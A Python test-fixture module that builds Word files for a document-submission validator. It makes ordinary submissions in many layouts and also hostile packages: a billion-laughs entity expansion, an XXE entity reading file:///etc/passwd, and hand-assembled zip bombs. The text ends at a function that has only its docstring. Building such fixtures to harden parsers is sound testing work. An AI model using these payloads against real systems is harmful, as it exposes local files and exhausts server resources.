"""Builders of real Word files for tests: submissions laid out the ways units write them, and
hostile packages (zip bombs, entity expansion, encrypted, macro, truncated, deep, huge).

Ordinary documents are built with python-docx; text boxes, anchored/VML pictures and OLE objects
are injected as the OOXML Word itself writes. Hostile packages are assembled byte by byte where
python-docx would refuse to write them.
"""

from __future__ import annotations

import functools
import io
import struct
import tempfile
import zipfile
import zlib
from pathlib import Path
from typing import Callable, Mapping, Sequence

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import qn
from docx.text.paragraph import Paragraph as DocxParagraph
from PIL import Image

from baosong import BUNDLED_CONFIG
from baosong.organisation import load_organisation
from validators.template import BODY_PLACEHOLDERS, TITLE_PLACEHOLDER, write_template

SIGN_OFF = {"审核领导": "李四", "撰稿人": "张三", "手机号": "13912345678"}
TITLE = "昌吉市生态环境局开展春季大气污染防治专项执法检查"
BODY = (
    "2024年3月12日，昌吉市生态环境局组织执法人员对辖区内12家重点排污企业开展专项执法检查。",
    "检查发现问题5个，已当场责令整改，并于3月15日完成复查，全部整改到位。",
)
# Deadlines as units write them: the 日前 here belongs to a date, it is not the vague word 日前.
DEADLINE_SENTENCES = (
    "11月18日，奇台县环境保护局下达整改通知，要求企业于12月15日前完成整改。",
    "11月18日，奇台县环境保护局部署专项检查，各乡镇须在1月25日前上报排查结果。",
    "11月18日，奇台县环境保护局印发通知，要求各股室每月25日前报送工作进展。",
    "11月18日，奇台县环境保护局通报，截至11月30日已完成整改问题35个。",
    "11月18日，奇台县环境保护局要求于２０日前提交材料，并在12月1号前完成复查。",
    "11月18日，奇台县环境保护局要求各企业在二十五日前完成自查。",
    "奇台县环境保护局要求各企业在2026年12月15日前完成自查，11月18日已召开部署会。",
)
# Explicit dates written other ways than X月X日 (NO_EXPLICIT_DATE must see each as a date).
NUMERAL_DATE_SENTENCES = (
    "2026.11.4，奇台县环境保护局组织执法人员对12家企业开展专项检查。",
    "2026-11-04，奇台县环境保护局组织执法人员对12家企业开展专项检查。",
    "2026/11/4，奇台县环境保护局组织执法人员对12家企业开展专项检查。",
    "十一月四日，奇台县环境保护局组织执法人员对12家企业开展专项检查。",
    "二〇二六年十一月四日，奇台县环境保护局组织执法人员对12家企业开展专项检查。",
    "2026年11月4日，奇台县环境保护局组织执法人员对12家企业开展专项检查。",
)
FIELD_LAYOUTS = (
    "lines",  # one paragraph per field
    "one_line",  # 审核领导：李四  撰稿人：张三  手机号：139…
    "table",  # a table, label | value in neighbouring cells
    "table_spaced",  # a table, one cell per field: "审核领导  李四"
    "header",  # one line in the page header
    "footer",  # one line in the page footer
    "textbox",  # one paragraph per field inside a text box
    "parenthesised",  # （审核领导：李四 撰稿人：张三 手机号：139…） as its own paragraph
    "appended",  # the parenthesised sign-off at the end of the last body paragraph
    "label_row",  # a table: the labels in its first row, the values in the second
)
# The author's mobile number in brackets (or after spaces) beside the name, with no phone label.
BRACKETED_PHONE_SIGN_OFFS = (
    {"审核领导": "李四", "撰稿人": "王小红（13912345678）"},
    {"审核领导": "李四", "撰稿人": "王小红(13912345678)"},
    {"审核领导": "李四", "撰稿人": "王小红 （139 1234 5678）"},
    {"审核领导": "李四", "撰稿人": "王小红 13912345678"},
    {"审核领导": "李四", "撰稿人": "王小红　139-1234-5678"},
)
PICTURE_PLACES = ("body", "anchored", "vml", "object", "table", "header", "footer", "textbox")

_NAMESPACES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office"'
)
_W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_DOCUMENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_DOCM_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


# --- images -----------------------------------------------------------------------------------


def make_png(width: int = 64, height: int = 48, color: tuple[int, int, int] = (200, 40, 40)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), color).save(buffer, "PNG")
    return buffer.getvalue()


def make_jpeg(width: int = 64, height: int = 48, color: tuple[int, int, int] = (40, 120, 200)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), color).save(buffer, "JPEG", quality=90)
    return buffer.getvalue()


# --- ordinary submissions -----------------------------------------------------------------------


def make_docx(
    title: str | None = TITLE,
    paragraphs: Sequence[str] = BODY,
    fields: Mapping[str, str] | None = SIGN_OFF,
    fields_layout: str = "lines",
    title_style: str = "Title",
    picture_in: str | None = None,
    colon: str = "：",
    stray_vba_project: bool = False,
    preamble: str | None = None,
) -> bytes:
    """A submission as a unit would write it.

    title_style: "Title" or "Heading 1" (Word styles), "centered" (centred bold run), "plain"
    (an unformatted paragraph) or "label" ("标题：…"). fields maps label → value in the order given;
    None leaves the sign-off out. picture_in: one of PICTURE_PLACES, or None. preamble: a line
    printed above the title (a classification level such as 机密, or 特急).
    """
    document = docx.Document()
    if preamble is not None:
        document.add_paragraph(preamble)
    if title is not None:
        _add_title(document, title, title_style)
    for text in paragraphs:
        document.add_paragraph(text)
    if fields is not None:
        _add_fields(document, fields, fields_layout, colon)
    if picture_in is not None:
        _add_picture(document, picture_in)
    data = docx_bytes(document)
    if stray_vba_project:
        data = rewrite_docx(data, add={"word/vbaProject.bin": make_compound_file({"VBA": b"Attribute VB_Name"})})
    return data


def _add_title(document: docx.document.Document, title: str, style: str) -> None:
    if style in ("Title", "Heading 1"):
        document.add_paragraph(title, style=style)
    elif style == "centered":
        paragraph = document.add_paragraph()
        paragraph.alignment = 1  # WD_ALIGN_PARAGRAPH.CENTER
        paragraph.add_run(title).bold = True
    elif style == "plain":
        document.add_paragraph(title)
    elif style == "label":
        document.add_paragraph(f"标题：{title}")
    else:
        raise ValueError(style)


def _sign_off_line(fields: Mapping[str, str], colon: str, separator: str = "  ") -> str:
    return separator.join(f"{label}{colon}{value}" for label, value in fields.items())


def _add_fields(document: docx.document.Document, fields: Mapping[str, str], layout: str, colon: str) -> None:
    lines = [f"{label}{colon}{value}" for label, value in fields.items()]
    if layout == "lines":
        for line in lines:
            document.add_paragraph(line)
    elif layout == "one_line":
        document.add_paragraph(_sign_off_line(fields, colon))
    elif layout == "table":
        table = document.add_table(rows=len(fields), cols=2)
        for row, (label, value) in zip(table.rows, fields.items()):
            row.cells[0].text, row.cells[1].text = label, value
    elif layout == "label_row":
        table = document.add_table(rows=2, cols=len(fields))
        for column, (label, value) in enumerate(fields.items()):
            table.cell(0, column).text, table.cell(1, column).text = label, value
    elif layout == "table_spaced":
        table = document.add_table(rows=1, cols=len(fields))
        for cell, (label, value) in zip(table.rows[0].cells, fields.items()):
            cell.text = f"{label}  {value}"
    elif layout == "header":
        document.sections[0].header.paragraphs[0].text = _sign_off_line(fields, colon)
    elif layout == "footer":
        document.sections[0].footer.paragraphs[0].text = _sign_off_line(fields, colon)
    elif layout == "textbox":
        add_text_box(document.add_paragraph(), lines)
    elif layout == "parenthesised":
        document.add_paragraph(f"（{_sign_off_line(fields, colon, ' ')}）")
    elif layout == "appended":
        last = document.paragraphs[-1]
        last.add_run(f"（{_sign_off_line(fields, colon, ' ')}）")
    else:
        raise ValueError(layout)


def _add_picture(document: docx.document.Document, place: str) -> None:
    png = make_png()
    if place == "body":
        document.add_paragraph().add_run().add_picture(io.BytesIO(png))
    elif place == "table":
        table = document.add_table(rows=1, cols=1)
        table.cell(0, 0).paragraphs[0].add_run().add_picture(io.BytesIO(png))
    elif place == "header":
        document.sections[0].header.paragraphs[0].add_run().add_picture(io.BytesIO(png))
    elif place == "footer":
        document.sections[0].footer.paragraphs[0].add_run().add_picture(io.BytesIO(png))
    elif place == "textbox":
        add_text_box(document.add_paragraph(), ["现场照片："], picture=png)
    elif place == "anchored":
        add_anchored_picture(document.add_paragraph(), png)
    elif place == "vml":
        add_vml_picture(document.add_paragraph(), png)
    elif place == "object":
        add_ole_object(document.add_paragraph(), png)
    else:
        raise ValueError(place)


# Two separate items as units paste them into one file (一事一报 broken), and one item with
# subheadings, a subtitle or a closing line that must stay one item. Each line: (style, text),
# style as in make_styled_docx.
TWO_ITEMS = (
    ("Title", "奇台县环境保护局开展秋季大气污染防治专项检查"),
    ("plain", "11月18日，奇台县环境保护局组织执法人员对县城周边12家企业开展专项检查，下达整改通知4份。"),
    ("plain", "审核领导：李四  撰稿人：张三  手机号：13912345678"),
    ("Title", "奇台县环境保护局召开农村人居环境整治推进会"),
    ("plain", "11月19日，奇台县环境保护局召开推进会，部署12个乡镇农村生活污水和垃圾治理工作。"),
    ("plain", "审核领导：李四  撰稿人：王小红  手机号：13912345679"),
)
ONE_ITEM_LAYOUTS = {
    "numbered-subheadings": (
        ("Title", "奇台县环境保护局扎实推进秋季大气污染防治"),
        ("plain", "11月18日，奇台县环境保护局召开专题会议，部署秋季大气污染防治工作。"),
        ("Title", "一、强化工业企业监管"),
        ("plain", "11月19日起，执法人员对县城周边12家企业逐一检查，下达整改通知4份。"),
        ("Title", "二、加强扬尘污染管控"),
        ("plain", "11月20日，对全县35处建筑工地开展扬尘专项检查，督促落实围挡和洒水措施。"),
    ),
    "bold-subheadings": (
        ("centered", "奇台县环境保护局扎实推进秋季大气污染防治"),
        ("plain", "11月18日，奇台县环境保护局召开专题会议，部署秋季大气污染防治工作。"),
        ("bold", "强化工业企业监管"),
        ("plain", "11月19日起，执法人员对县城周边12家企业逐一检查，下达整改通知4份。"),
        ("bold", "加强扬尘污染管控"),
        ("plain", "11月20日，对全县35处建筑工地开展扬尘专项检查，督促落实围挡和洒水措施。"),
    ),
    "subtitle-and-closing": (
        ("centered", "守护蓝天白云"),
        ("centered", "——奇台县环境保护局扎实推进秋季大气污染防治"),
        ("plain", "11月18日，奇台县环境保护局召开专题会议，部署秋季大气污染防治工作，对县城周边12家企业开展专项检查。"),
        ("centered", "奇台县环境保护局"),
        ("centered", "2026年11月18日"),
    ),
    "unnumbered-subheadings-set-like-the-title": (  # WPS users often set every heading in 标题 1
        ("Heading 1", "奇台县环境保护局多措并举推进冬季大气污染防治"),
        ("plain", "11月18日以来，奇台县环境保护局多措并举推进冬季大气污染防治工作。"),
        ("Heading 1", "强化燃煤锅炉监管"),
        ("plain", "11月18日至20日，奇台县环境保护局对32台燃煤锅炉开展检查，发现问题3个，已责令整改。"),
        ("Heading 1", "坚持问题导向，持续加强扬尘污染管控"),
        ("plain", "11月21日，奇台县环境保护局对城区18处建筑工地开展扬尘检查，下达整改通知4份。"),
    ),
    "centred-caption": (
        ("centered", "奇台县环境保护局开展秋季大气污染防治专项检查"),
        ("plain", "11月18日，奇台县环境保护局组织执法人员对县城周边12家企业开展专项检查，下达整改通知4份。"),
        ("centered", "图为执法人员检查企业除尘设施"),
        ("plain", "11月19日，执法人员对整改情况开展复查，4家企业已全部完成整改并通过验收。"),
    ),
}


def make_styled_docx(lines: Sequence[tuple[str, str]], fields: Mapping[str, str] | None = SIGN_OFF) -> bytes:
    """A document line by line, each set in a style: \"Title\", \"Heading 1\", \"centered\" (centred
    bold), \"bold\" (a bold run, left) or \"plain\"; the sign-off lines follow unless `fields` is None."""
    document = docx.Document()
    for style, text in lines:
        if style == "bold":
            document.add_paragraph().add_run(text).bold = True
        else:
            _add_title(document, text, style)
    if fields is not None:
        _add_fields(document, fields, "one_line", "：")
    return docx_bytes(document)


RULES_A = load_organisation(BUNDLED_CONFIG, "A").checks  # the template units of A fill in


def make_blank_template(
    fields: Mapping[str, str] | None = SIGN_OFF,
    title: str | None = None,
    paragraphs: Sequence[str] | None = None,
    notes_as_text: bool = False,
) -> bytes:
    """The file `baosong template` writes, as a unit sends it back: the sign-off line filled in
    with `fields`, the placeholder title and body replaced only when given. notes_as_text: the
    填报须知 box taken out of its content control (as when an editor drops the control)."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "信息报送模板.docx"
        write_template(path, RULES_A)
        document = docx.Document(str(path))
    for paragraph in document.paragraphs:
        if paragraph.text == TITLE_PLACEHOLDER and title is not None:
            paragraph.runs[0].text = title
        elif paragraph.text == RULES_A.template_sign_off and fields is not None:
            paragraph.text = _sign_off_line(fields, "：")
    if paragraphs is not None:
        placeholders = [p for p in document.paragraphs if p.text in BODY_PLACEHOLDERS]
        for text in paragraphs:
            placeholders[0].insert_paragraph_before(text)
        for placeholder in placeholders:
            placeholder._p.getparent().remove(placeholder._p)
    if notes_as_text:
        for control in document.element.body.iterchildren(qn("w:sdt")):
            control.addprevious(control.find(qn("w:sdtContent"))[0])
            control.getparent().remove(control)
    return docx_bytes(document)


def docx_bytes(document: docx.document.Document) -> bytes:
    """The saved .docx of a python-docx Document."""
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


# --- raw OOXML: text boxes, anchored and VML pictures, OLE objects -----------------------------


def _next_shape_id(paragraph: DocxParagraph) -> int:
    ids = [int(value) for value in paragraph.part.element.xpath("//wp:docPr/@id") if value.isdigit()]
    return max(ids, default=0) + 1


def _text_paragraphs_xml(lines: Sequence[str]) -> str:
    return "".join(f"<w:p><w:r><w:t xml:space=\"preserve\">{_escape(line)}</w:t></w:r></w:p>" for line in lines)


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _inline_picture_xml(paragraph: DocxParagraph, image: bytes, shape_id: int) -> str:
    """An inline picture run, as python-docx writes it, for use inside raw XML."""
    rel_id, _ = paragraph.part.get_or_add_image(io.BytesIO(image))
    return (
        f"<w:p><w:r><w:drawing><wp:inline distT=\"0\" distB=\"0\" distL=\"0\" distR=\"0\">"
        f"<wp:extent cx=\"609600\" cy=\"457200\"/><wp:docPr id=\"{shape_id}\" name=\"Picture {shape_id}\"/>"
        f"<wp:cNvGraphicFramePr><a:graphicFrameLocks noChangeAspect=\"1\"/></wp:cNvGraphicFramePr>"
        f"{_graphic_xml(rel_id, shape_id)}</wp:inline></w:drawing></w:r></w:p>"
    )


def _graphic_xml(rel_id: str, shape_id: int) -> str:
    return (
        "<a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\">"
        f"<pic:pic><pic:nvPicPr><pic:cNvPr id=\"{shape_id}\" name=\"photo{shape_id}.png\"/><pic:cNvPicPr/></pic:nvPicPr>"
        f"<pic:blipFill><a:blip r:embed=\"{rel_id}\"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
        "<pic:spPr><a:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"609600\" cy=\"457200\"/></a:xfrm>"
        "<a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>"
    )


def add_text_box(paragraph: DocxParagraph, lines: Sequence[str], picture: bytes | None = None) -> None:
    """A Word 2010+ text box (DrawingML shape, VML fallback for older readers) anchored to `paragraph`."""
    shape_id = _next_shape_id(paragraph)
    content = _text_paragraphs_xml(lines)
    if picture is not None:
        content += _inline_picture_xml(paragraph, picture, shape_id + 1)
    run = parse_xml(
        f"<w:r {_NAMESPACES}><mc:AlternateContent><mc:Choice Requires=\"wps\"><w:drawing>"
        "<wp:anchor distT=\"45720\" distB=\"45720\" distL=\"114300\" distR=\"114300\" simplePos=\"0\" "
        "relativeHeight=\"251659264\" behindDoc=\"0\" locked=\"0\" layoutInCell=\"1\" allowOverlap=\"1\">"
        "<wp:simplePos x=\"0\" y=\"0\"/>"
        "<wp:positionH relativeFrom=\"column\"><wp:posOffset>0</wp:posOffset></wp:positionH>"
        "<wp:positionV relativeFrom=\"paragraph\"><wp:posOffset>0</wp:posOffset></wp:positionV>"
        "<wp:extent cx=\"2743200\" cy=\"1371600\"/><wp:effectExtent l=\"0\" t=\"0\" r=\"0\" b=\"0\"/>"
        f"<wp:wrapSquare wrapText=\"bothSides\"/><wp:docPr id=\"{shape_id}\" name=\"Text Box {shape_id}\"/>"
        "<wp:cNvGraphicFramePr/>"
        "<a:graphic><a:graphicData uri=\"http://schemas.microsoft.com/office/word/2010/wordprocessingShape\">"
        "<wps:wsp><wps:cNvSpPr txBox=\"1\"/><wps:spPr>"
        "<a:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"2743200\" cy=\"1371600\"/></a:xfrm>"
        "<a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom>"
        "<a:ln w=\"6350\"><a:solidFill><a:srgbClr val=\"000000\"/></a:solidFill></a:ln></wps:spPr>"
        f"<wps:txbx><w:txbxContent>{content}</w:txbxContent></wps:txbx>"
        "<wps:bodyPr rot=\"0\" vert=\"horz\" wrap=\"square\" lIns=\"91440\" tIns=\"45720\" rIns=\"91440\" "
        "bIns=\"45720\" anchor=\"t\" anchorCtr=\"0\"><a:noAutofit/></wps:bodyPr></wps:wsp>"
        "</a:graphicData></a:graphic></wp:anchor></w:drawing></mc:Choice>"
        "<mc:Fallback><w:pict>"
        f"<v:shape id=\"Text Box {shape_id}\" o:spid=\"_x0000_s{1025 + shape_id}\" type=\"#_x0000_t202\" "
        "style=\"position:absolute;margin-left:0;margin-top:0;width:216pt;height:108pt;z-index:251659264\" "
        "strokeweight=\".5pt\">"
        f"<v:textbox><w:txbxContent>{_text_paragraphs_xml(lines)}</w:txbxContent></v:textbox>"
        "</v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r>"
    )
    paragraph._p.append(run)


def add_anchored_picture(paragraph: DocxParagraph, image: bytes) -> None:
    """A floating picture (wp:anchor), square wrapping."""
    rel_id, _ = paragraph.part.get_or_add_image(io.BytesIO(image))
    shape_id = _next_shape_id(paragraph)
    run = parse_xml(
        f"<w:r {_NAMESPACES}><w:drawing>"
        "<wp:anchor distT=\"0\" distB=\"0\" distL=\"114300\" distR=\"114300\" simplePos=\"0\" "
        "relativeHeight=\"251658240\" behindDoc=\"0\" locked=\"0\" layoutInCell=\"1\" allowOverlap=\"1\">"
        "<wp:simplePos x=\"0\" y=\"0\"/>"
        "<wp:positionH relativeFrom=\"column\"><wp:posOffset>0</wp:posOffset></wp:positionH>"
        "<wp:positionV relativeFrom=\"paragraph\"><wp:posOffset>0</wp:posOffset></wp:positionV>"
        "<wp:extent cx=\"609600\" cy=\"457200\"/><wp:effectExtent l=\"0\" t=\"0\" r=\"0\" b=\"0\"/>"
        f"<wp:wrapSquare wrapText=\"bothSides\"/><wp:docPr id=\"{shape_id}\" name=\"Picture {shape_id}\"/>"
        "<wp:cNvGraphicFramePr><a:graphicFrameLocks noChangeAspect=\"1\"/></wp:cNvGraphicFramePr>"
        f"{_graphic_xml(rel_id, shape_id)}</wp:anchor></w:drawing></w:r>"
    )
    paragraph._p.append(run)


_PICTURE_SHAPETYPE = (
    "<v:shapetype id=\"_x0000_t75\" coordsize=\"21600,21600\" o:spt=\"75\" o:preferrelative=\"t\" "
    "path=\"m@4@5l@4@11@9@11@9@5xe\" filled=\"f\" stroked=\"f\"><v:stroke joinstyle=\"miter\"/>"
    "<v:path o:extrusionok=\"f\" gradientshapeok=\"t\" o:connecttype=\"rect\"/>"
    "<o:lock v:ext=\"edit\" aspectratio=\"t\"/></v:shapetype>"
)


def add_vml_picture(paragraph: DocxParagraph, image: bytes) -> None:
    """A legacy VML picture (w:pict/v:shape/v:imagedata), as in documents converted from .doc."""
    rel_id, _ = paragraph.part.get_or_add_image(io.BytesIO(image))
    run = parse_xml(
        f"<w:r {_NAMESPACES}><w:pict>{_PICTURE_SHAPETYPE}"
        "<v:shape id=\"_x0000_i1025\" type=\"#_x0000_t75\" style=\"width:48pt;height:36pt\">"
        f"<v:imagedata r:id=\"{rel_id}\" o:title=\"现场照片\"/></v:shape></w:pict></w:r>"
    )
    paragraph._p.append(run)


def add_ole_object(paragraph: DocxParagraph, preview: bytes) -> None:
    """An embedded OLE object (w:object) with its preview picture and its embedding part."""
    part = paragraph.part
    preview_id, _ = part.get_or_add_image(io.BytesIO(preview))
    embedding = Part(
        PackURI("/word/embeddings/oleObject1.bin"),
        "application/vnd.openxmlformats-officedocument.oleObject",
        make_compound_file({"\x01Ole10Native": b"\x00" * 16}),
        part.package,
    )
    ole_id = part.relate_to(embedding, RT.OLE_OBJECT)
    run = parse_xml(
        f"<w:r {_NAMESPACES}><w:object w:dxaOrig=\"960\" w:dyaOrig=\"720\">{_PICTURE_SHAPETYPE}"
        "<v:shape id=\"_x0000_i1026\" type=\"#_x0000_t75\" style=\"width:48pt;height:36pt\" o:ole=\"\">"
        f"<v:imagedata r:id=\"{preview_id}\" o:title=\"\"/></v:shape>"
        "<o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"_x0000_i1026\" DrawAspect=\"Icon\" "
        f"ObjectID=\"_1700000001\" r:id=\"{ole_id}\"/></w:object></w:r>"
    )
    paragraph._p.append(run)


# --- package surgery --------------------------------------------------------------------------


def rewrite_docx(
    data: bytes,
    add: Mapping[str, bytes] | None = None,
    replace: Mapping[str, Callable[[bytes], bytes]] | None = None,
) -> bytes:
    """A copy of the zip with members replaced (by a function of their bytes) or added."""
    replace = replace or {}
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            blob = source.read(info)
            target.writestr(info.filename, replace[info.filename](blob) if info.filename in replace else blob)
        for name, blob in (add or {}).items():
            target.writestr(name, blob)
    return output.getvalue()


def make_docm() -> bytes:
    """A macro-enabled document: the .docm content type plus a VBA project part."""

    def content_types(blob: bytes) -> bytes:
        blob = blob.replace(_DOCUMENT_TYPE.encode(), _DOCM_TYPE.encode())
        return blob.replace(
            b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
        )

    def relationships(blob: bytes) -> bytes:
        return blob.replace(
            b"</Relationships>",
            b'<Relationship Id="rIdVba1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
            b' Target="vbaProject.bin"/></Relationships>',
        )

    return rewrite_docx(
        make_docx(),
        add={"word/vbaProject.bin": make_compound_file({"VBA": b"Attribute VB_Name = \"ThisDocument\""})},
        replace={"[Content_Types].xml": content_types, "word/_rels/document.xml.rels": relationships},
    )


def make_truncated_docx(keep: float = 0.5) -> bytes:
    data = make_docx()
    return data[: int(len(data) * keep)]


def make_many_parts(count: int) -> bytes:
    """A document with `count` extra custom XML parts, each referenced from the document."""
    rels = "".join(
        f'<Relationship Id="rIdX{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXml"'
        f' Target="../customXml/bulk{n}.xml"/>'
        for n in range(count)
    ).encode()
    base = zipfile.ZipFile(io.BytesIO(make_docx()))
    members = []
    for name in base.namelist():
        blob = base.read(name)
        if name == "word/_rels/document.xml.rels":
            blob = blob.replace(b"</Relationships>", rels + b"</Relationships>")
        members.append(_RawMember.deflated(name, blob))
    extra = _RawMember.deflated("customXml/bulk.xml", b"<a/>")
    members += [_RawMember(f"customXml/bulk{n}.xml", extra.compressed, extra.crc, extra.size) for n in range(count)]
    return _raw_zip(members)


def make_nested_tables(depth: int) -> bytes:
    """Tables nested `depth` deep, the innermost cell holding text."""
    document = docx.Document()
    document.add_paragraph(TITLE)
    cell = document.add_table(rows=1, cols=1).cell(0, 0)
    for _ in range(depth - 1):
        cell = cell.add_table(rows=1, cols=1).cell(0, 0)
    cell.paragraphs[0].text = "最内层的单元格"
    return docx_bytes(document)


def make_padded_docx(xml_bytes: int) -> bytes:
    """A real submission whose document.xml holds about `xml_bytes` of ordinary body paragraphs
    (18 MB fit in a mail of a few hundred KB): a number in each keeps the zip ratio under 200:1, the
    zip-bomb check, so only the size of what would be parsed can stop it."""
    sentence = "11月18日，昌吉市生态环境局组织执法人员对辖区重点企业开展专项检查。"
    count = xml_bytes // len(f"<w:p><w:r><w:t>{sentence}0</w:t></w:r></w:p>".encode())
    padding = "".join(f"<w:p><w:r><w:t>{sentence}（{n}）</w:t></w:r></w:p>" for n in range(count)).encode()
    return rewrite_docx(make_docx(), replace={"word/document.xml": lambda xml: xml.replace(b"<w:body>", b"<w:body>" + padding, 1)})


def make_xlsx() -> bytes:
    """A real spreadsheet, as when a unit attaches an Excel file renamed .docx."""
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "报送统计"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- hostile XML --------------------------------------------------------------------------------


def _with_document_xml(document_xml: bytes) -> bytes:
    return rewrite_docx(make_docx(), replace={"word/document.xml": lambda _: document_xml})


def make_billion_laughs(encoding: str = "utf-8") -> bytes:
    """The classic entity expansion (10^9 "lol") as word/document.xml."""
    entities = "".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
    )
    xml = (
        f'<?xml version="1.0" encoding="{encoding}"?>'
        f'<!DOCTYPE w:document [<!ENTITY lol0 "lol">{entities}]>'
        f'<w:document xmlns:w="{_W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>'
    )
    return _with_document_xml(xml.encode(encoding))


def make_external_entity(target: str = "file:///etc/passwd") -> bytes:
    xml = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{target}">]>'
        f'<w:document xmlns:w="{_W_NS}"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>'
    )
    return _with_document_xml(xml.encode())


# --- zip bombs ----------------------------------------------------------------------------------

_BOMB_PREFIX = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{_W_NS}">'
    "<w:body><w:p><w:r><w:t>"
).encode()
_BOMB_SUFFIX = b"</w:t></w:r></w:p></w:body></w:document>"
_BOMB_CHUNK = b"A" * (1 << 20)


def make_zip_bomb(inflated_bytes: int = 1 << 30, declared_bytes: int | None = None) -> bytes:
    """A .docx whose word/document.xml really inflates to at least `inflated_bytes` (under 4 GiB).

    `declared_bytes` makes the zip directory lie about the inflated size.
    """
    compressed, crc, size = _bomb_stream(inflated_bytes)
    bomb = _RawMember("word/document.xml", compressed, crc, declared_bytes or size)
    return _raw_zip([*_package_skeleton(), bomb])


@functools.lru_cache(maxsize=2)
def _bomb_stream(inflated_bytes: int) -> tuple[bytes, int, int]:
    """Deflate data built without ever holding the inflated text: after a full flush deflate
    restarts with an empty window, so the compressed form of one 1 MiB chunk can be repeated."""
    count = max(1, -(-(inflated_bytes - len(_BOMB_PREFIX) - len(_BOMB_SUFFIX)) // len(_BOMB_CHUNK)))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(_BOMB_PREFIX) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(_BOMB_CHUNK) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(_BOMB_SUFFIX) + compressor.flush()
    crc = zlib.crc32(_BOMB_PREFIX)
    for _ in range(count):
        crc = zlib.crc32(_BOMB_CHUNK, crc)
    crc = zlib.crc32(_BOMB_SUFFIX, crc)
    size = len(_BOMB_PREFIX) + count * len(_BOMB_CHUNK) + len(_BOMB_SUFFIX)
    return head + block * count + tail, crc, size


def _package_skeleton() -> list["_RawMember"]:
    base = zipfile.ZipFile(io.BytesIO(make_docx()))
    return [_RawMember.deflated(name, base.read(name)) for name in ("[Content_Types].xml", "_rels/.rels")]


class _RawMember:
    def __init__(self, name: str, compressed: bytes, crc: int, size: int) -> None:
        self.name, self.compressed, self.crc, self.size = name.encode(), compressed, crc, size

    @classmethod
    def deflated(cls, name: str, data: bytes) -> "_RawMember":
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        return cls(name, compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data))


def _raw_zip(members: Sequence[_RawMember]) -> bytes:
    """A plain (non-zip64) zip of deflated members, written field by field (PKWARE APPNOTE 4.3)."""
    output, directory = io.BytesIO(), io.BytesIO()
    for member in members:
        offset = output.tell()
        sizes = (member.crc, len(member.compressed), member.size, len(member.name))
        output.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, *sizes, 0))
        output.write(member.name + member.compressed)
        directory.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, *sizes, 0, 0, 0, 0, 0, offset))
        directory.write(member.name)
    start = output.tell()
    output.write(directory.getvalue())
    count = len(members)
    output.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory.getvalue()), start, 0))
    return output.getvalue()


# --- OLE2 compound files: encrypted Office documents, legacy .doc ------------------------------

_FREE, _END, _FAT_SECTOR, _NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR = 512
_MINI_CUTOFF = 4096


def make_encrypted_docx() -> bytes:
    """What Word writes for a password-protected .docx: an OLE file with an EncryptedPackage stream."""
    return make_compound_file(
        {"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<encryption/>", "EncryptedPackage": b"\x9a" * 5000}
    )


def make_legacy_doc() -> bytes:
    """A Word 97-2003 .doc (its WordDocument stream), e.g. renamed to .docx by a unit."""
